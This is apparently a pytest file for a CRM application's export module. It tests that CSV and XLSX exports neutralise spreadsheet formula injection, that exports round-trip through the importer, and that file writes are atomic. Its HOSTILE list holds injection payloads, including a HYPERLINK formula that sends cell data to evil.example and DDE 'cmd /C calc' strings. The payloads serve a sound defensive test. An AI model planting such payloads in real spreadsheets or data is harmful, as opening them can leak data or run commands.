"""Exports can't attack the reader, round-trip with the importer, and are atomic."""

from __future__ import annotations

import csv
import re
import sqlite3
from pathlib import Path

import openpyxl
import pytest

from crmdesk.atomic import atomic_write
from crmdesk.cli import main
from crmdesk.core import export as ex
from crmdesk.core.accounts import create_account
from crmdesk.core.activities import log_activity
from crmdesk.core.contacts import create_contact
from crmdesk.db.enums import ActivityKind
from crmdesk.db.models import Account
from crmdesk.errors import InvalidValueError

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_db(db, db_path):
    """An account, contact and activity whose text fields start with every
    formula trigger; written with raw SQL so no cleaning strips them."""
    account = create_account(db, name="Safe Name GmbH")
    contact = create_contact(db, account.id, first_name="Ana", last_name="Safe")
    activity = log_activity(db, account.id, kind=ActivityKind.MEETING, subject="Safe subject")
    conn = sqlite3.connect(db_path)
    with conn:
        for i, text in enumerate(HOSTILE):
            conn.execute(
                "INSERT INTO accounts (uuid, name, tier, lifecycle_stage, status, currency, "
                "notes, created_at, updated_at) VALUES (?, ?, 'partner', 'retention', 'active', "
                "'EUR', ?, '2026-01-01 00:00:00', '2026-01-01 00:00:00')",
                (f"{i:032x}", f"{text} #{i}", text),
            )
        conn.execute(
            "UPDATE contacts SET job_title = ?, department = ?, notes = ?, last_name = ? "
            "WHERE id = ?",
            (HOSTILE[0], HOSTILE[4], HOSTILE[5], HOSTILE[2], contact.id),
        )
        conn.execute(
            "UPDATE activities SET subject = ?, notes = ? WHERE id = ?",
            (HOSTILE[3], HOSTILE[1], activity.id),
        )
    conn.close()
    return db


def _hostile_in(values: list[str]) -> list[str]:
    return [v for v in values if any(h.split(" #")[0] in v for h in HOSTILE)]


@pytest.mark.parametrize("kind", ex.KINDS)
def test_xlsx_cells_with_formula_characters_read_back_as_text(hostile_db, tmp_path, kind):
    dest = tmp_path / f"{kind}.xlsx"
    ex.export(hostile_db, kind, dest)
    book = openpyxl.load_workbook(dest)  # not data_only: a formula would show as one
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    found = _hostile_in(texts)
    assert found, "the hostile values should be in the export"
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(ex.FORMULA_TRIGGERS):
            assert c.data_type == "s", (c.coordinate, c.value)
    assert not [c for c in cells if c.data_type == "f"]
    # the exact text survives (no apostrophe needed in a typed text cell)
    assert set(HOSTILE) & set(texts)


@pytest.mark.parametrize("kind", ex.KINDS)
def test_csv_cells_with_formula_characters_are_neutralised(hostile_db, tmp_path, kind):
    dest = tmp_path / f"{kind}.csv"
    ex.export(hostile_db, kind, dest)
    with open(dest, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [v for row in rows[1:] for v in row]
    assert _hostile_in(cells)
    assert not [v for v in cells if v.startswith(ex.FORMULA_TRIGGERS)]
    originals = {ex.unneutralise(v) for v in cells}
    assert set(HOSTILE) & originals
    # and a spreadsheet program opening the CSV sees text, too
    book_path = tmp_path / "via.xlsx"
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(book_path)
    reread = openpyxl.load_workbook(book_path).active
    assert not [c for row in reread.iter_rows() for c in row if c.data_type == "f"]


def test_numbers_and_dates_stay_typed_in_xlsx(db, tmp_path):
    from decimal import Decimal

    create_account(db, name="Acme", annual_value=Decimal("1250.50"))
    dest = tmp_path / "a.xlsx"
    ex.export(db, "accounts", dest)
    sheet = openpyxl.load_workbook(dest).active
    header = [c.value for c in sheet[1]]
    row = [c.value for c in sheet[2]]
    assert row[header.index("Annual value")] == 1250.5  # a number, not text
    assert row[header.index("Created")].year >= 2026


def _contacts_in(db_path: Path) -> set[tuple[object, ...]]:
    conn = sqlite3.connect(db_path)
    try:
        rows = conn.execute(
            "SELECT c.first_name, c.last_name, a.name, c.job_title, c.department, c.level, "
            "c.email, c.buying_role, c.stance, c.relationship_holder, c.phone, c.mobile "
            "FROM contacts c JOIN accounts a ON a.id = c.account_id "
            "WHERE c.deleted_at IS NULL"
        ).fetchall()
    finally:
        conn.close()
    digits = re.compile(r"\D")
    return {(*r[:10], digits.sub("", r[10] or ""), digits.sub("", r[11] or "")) for r in rows}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_contacts_export_imports_back_unchanged(demo_db, tmp_path, suffix, capsys):
    """Export → `crmdesk import` into an empty database → same contacts
    (phones compared by digits: the importer stores E.164)."""
    out = tmp_path / f"contacts{suffix}"
    assert main(["--db", demo_db.path, "export", "contacts", "-o", str(out)]) == 0
    fresh = tmp_path / "fresh.sqlite3"
    assert main(["--db", str(fresh), "import", str(out), "--yes", "--json"]) == 0, (
        capsys.readouterr().err
    )
    assert _contacts_in(fresh) == _contacts_in(Path(demo_db.path))
    from crmdesk.db.backup import list_backups

    assert [b.reason for b in list_backups(fresh)] == ["before-import"]


def test_contacts_headings_are_what_the_importer_maps(db):
    from crmdesk.importing.mapping import auto_map

    headings = [c.heading for c in ex.CONTACT_COLUMNS]
    mapped = dict(zip(headings, auto_map(headings), strict=True))
    assert mapped["First Name"] == "first_name" and mapped["Last Name"] == "last_name"
    assert mapped["Company"] == "company" and mapped["E-mail Address"] == "email"
    assert mapped["E-mail 2 Address"] == "email_secondary"
    assert mapped["Business Phone"] == "phone" and mapped["Mobile Phone"] == "mobile"
    for field in ("Job Title", "Department", "Level", "Buying role", "Stance", "Notes"):
        assert mapped[field], field


def test_a_failed_export_leaves_the_old_file_and_no_temporary(db, tmp_path, monkeypatch):
    create_account(db, name="Acme")
    folder = tmp_path / "out"
    folder.mkdir()
    dest = folder / "accounts.csv"
    dest.write_text("previous export\n", encoding="utf-8")

    def broken(_obj):  # fails after some rows were already written
        raise OSError("disk full")

    extra = ex.Column("X", Account.name, broken)
    monkeypatch.setattr(ex, "ACCOUNT_COLUMNS", (*ex.ACCOUNT_COLUMNS, extra))
    with pytest.raises(OSError, match="disk full"):
        ex.export(db, "accounts", dest)
    assert dest.read_text(encoding="utf-8") == "previous export\n"
    assert sorted(p.name for p in folder.iterdir()) == ["accounts.csv"]


def test_atomic_write_replaces_whole_or_not_at_all(tmp_path):
    dest = tmp_path / "report.pdf"
    with atomic_write(dest, "wb") as handle:
        handle.write(b"first")
    assert dest.read_bytes() == b"first"
    with pytest.raises(RuntimeError), atomic_write(dest, "wb") as handle:
        handle.write(b"half of the second")
        raise RuntimeError("crash")
    assert dest.read_bytes() == b"first"
    assert [p.name for p in tmp_path.iterdir()] == ["report.pdf"]


def test_bad_export_requests_are_clear_errors(db, tmp_path, capsys):
    with pytest.raises(InvalidValueError, match=r"\.csv or \.xlsx"):
        ex.export(db, "contacts", tmp_path / "x.pdf")
    with pytest.raises(InvalidValueError, match="does not exist"):
        ex.export(db, "contacts", tmp_path / "missing" / "x.csv")
    assert main(["--db", str(tmp_path / "c.sqlite3"), "export", "contacts", "-o", "x.txt"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("crmdesk: ") and err.count("\n") == 1
